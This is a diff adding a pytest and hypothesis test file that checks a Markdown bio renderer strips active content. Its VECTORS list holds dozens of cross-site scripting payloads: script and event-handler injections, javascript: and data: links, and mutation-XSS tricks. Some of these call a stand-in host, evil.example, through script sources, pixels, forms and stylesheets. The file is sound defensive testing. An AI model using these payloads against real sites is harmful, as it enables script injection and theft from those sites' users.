@@ -1,0 +1,164 @@
+"""A bio shows what its Markdown means, and can do nothing else."""
+
+import time
+from html.parser import HTMLParser
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as some
+
+from mentorbook.publishing.bio import REL, TAGS, render_bio
+
+# The ways in that public collections of such payloads have in common, and those that have beaten other sanitizers.
+VECTORS = [
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+    "<img src=x onerror=alert(1)>",
+    "<img src='https://evil.example/pixel.png'>",
+    "![pixel](https://evil.example/pixel.png)",
+    "![x](javascript:alert(1))",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<iframe src=javascript:alert(1)>",
+    "<object data='javascript:alert(1)'></object>",
+    "<embed src=javascript:alert(1)>",
+    "<form action=https://evil.example><input name=q><button>Go</button></form>",
+    "<style>@import 'https://evil.example/x.css';</style>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<base href=https://evil.example/>",
+    "<body onload=alert(1)>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<video><source onerror=alert(1)></video>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<a href='https://ok.example' onclick='alert(1)'>x</a>",
+    "<p style='background:url(https://evil.example/x)'>x</p>",
+    "<template><img src=x onerror=alert(1)></template>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<![CDATA[<img src=x onerror=alert(1)>]]>",
+    "<?xml version='1.0'?><x onclick=alert(1)>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java\tscript:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](javascript&colon;alert(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[x](vbscript:msgbox(1))",
+    "[x](//evil.example)",
+    "[x](/relative)",
+    "[x](#mentor)",
+    "[x](http://plain.example)",
+    "[x](https://user:pass@evil.example)",
+    "[x](https://localhost)",
+    '[x](https://ok.example "title\\" onclick=\\"alert(1)")',
+    "[x]: javascript:alert(1)\n\n[x]",
+    "<javascript:alert(1)>",
+    "<https://ok.example/\"onmouseover='alert(1)>",
+    "[![x](x)](javascript:alert(1))",
+    "`<script>alert(1)</script>`",
+    "```html\n<script>alert(1)</script>\n```",
+    '```"><script>alert(1)</script>\n```',
+    "# \\[click\\](javascript:alert(1))",
+    "{: onclick=alert(1) }",
+    "text{: onclick=alert(1) }",
+    "\\<script>alert(1)</script>",
+    "\\\\<script>alert(1)</script>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<<script>alert(1)//<</script>",
+    "<\x00script>alert(1)</script>",
+    "\ufdd0script>alert(1)\ufdd0/script>",
+    "> <img src=x onerror=alert(1)>",
+    "- <img src=x onerror=alert(1)>\n  - <svg/onload=alert(1)>",
+]
+
+
+class Tags(HTMLParser):
+    """Collects the tags of some HTML with their attributes."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__()
+        self.found: list[tuple[str, dict[str, str | None]]] = []
+        self.feed(html)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        """Keep a tag."""
+        self.found.append((tag, dict(attrs)))
+
+
+def assert_harmless(html: str) -> None:
+    """Fail where some HTML holds a tag or an attribute that a bio never has."""
+    for tag, attributes in Tags(html).found:
+        assert tag in TAGS
+        if tag == "a":
+            assert attributes.keys() == {"href", "rel"}
+            assert str(attributes["href"]).startswith("https://")
+            assert attributes["rel"] == REL
+        else:
+            assert attributes == {}
+
+
+@pytest.mark.parametrize("vector", VECTORS)
+def test_nothing_that_people_write_becomes_active(vector):
+    """No tag but those of text, no attribute but a checked link."""
+    assert_harmless(render_bio(vector))
+    assert_harmless(render_bio(f"Hello\n\n- a\n- {vector}\n\n> {vector}\n"))
+
+
+@given(some.text(alphabet="<>[](){}!\"'`*_#-&;:/\\=xjavscript \n\ufdd0", max_size=400))
+def test_no_mixture_of_signs_becomes_active(text):
+    """Nor anything that nobody has thought of."""
+    assert_harmless(render_bio(text))
+
+
+def test_what_markdown_is_allowed():
+    """Paragraphs, emphasis, lists, links, code, quotes and line breaks."""
+    bio = "A *b* **c** `d`  \ne [f](https://g.example)\n\n> h\n\n1. i\n\n- j\n\n```\nk\n```\n"
+    assert render_bio(bio) == (
+        "<p>A <em>b</em> <strong>c</strong> <code>d</code><br>\n"
+        f'e <a href="https://g.example" rel="{REL}">f</a></p>\n'
+        "<blockquote>\n<p>h</p>\n</blockquote>\n<ol>\n<li>i</li>\n</ol>\n<ul>\n<li>j</li>\n</ul>\n"
+        "<pre><code>k\n</code></pre>"
+    )
+
+
+@pytest.mark.parametrize(
+    ("bio", "html"),
+    [
+        ("I <3 <b>tea</b>", "<p>I &lt;3 &lt;b&gt;tea&lt;/b&gt;</p>"),
+        ("\\<b> and \\\\<b>", "<p>&lt;b&gt; and \\&lt;b&gt;</p>"),
+        ("`<b>`", "<p><code>&lt;b&gt;</code></p>"),
+        ("## About *me*", "<p><strong>About <em>me</em></strong></p>"),
+        ("a ![alt](https://b.example/c.png) d", "<p>a  d</p>"),
+        ("[a](javascript:b) [c](d)", "<p>a c</p>"),
+        ("{{ config }} {% raw %} --8<-- 'x'", "<p>{{ config }} {% raw %} --8&lt;-- 'x'</p>"),
+        ("| a |\n|---|\n| b |", "<p>| a |\n|---|\n| b |</p>"),
+        ("~~a~~ www.b.example", "<p>~~a~~ www.b.example</p>"),
+        ("<https://a.example/b>", f'<p><a href="https://a.example/b" rel="{REL}">https://a.example/b</a></p>'),
+    ],
+)
+def test_what_is_not_allowed_is_shown_as_it_was_typed(bio, html):
+    """Raw HTML as text; headings in bold; no images; a link that leads nowhere safe is its words."""
+    assert render_bio(bio) == html
+
+
+@pytest.mark.parametrize(
+    "flood", ["[" * 2000, "![" * 1000, "*a_" * 700, "> " * 1000, "- " * 1000, "`" * 2000, "&" * 2000]
+)
+def test_floods_are_quick(flood):
+    """A bio of nothing but brackets costs no more than another."""
+    start = time.process_time()
+    render_bio(flood)
+    assert time.process_time() - start < 0.1
+
+
+def test_what_is_nested_too_deeply_is_plain():
+    """Nobody needs nine quotes in one another, and browsers cannot show a thousand."""
+    assert render_bio("> " * 9 + "hello") == f"<p>{'&gt; ' * 9}hello</p>"
+    assert render_bio("> " * 8 + "hello").count("<blockquote>") == 8
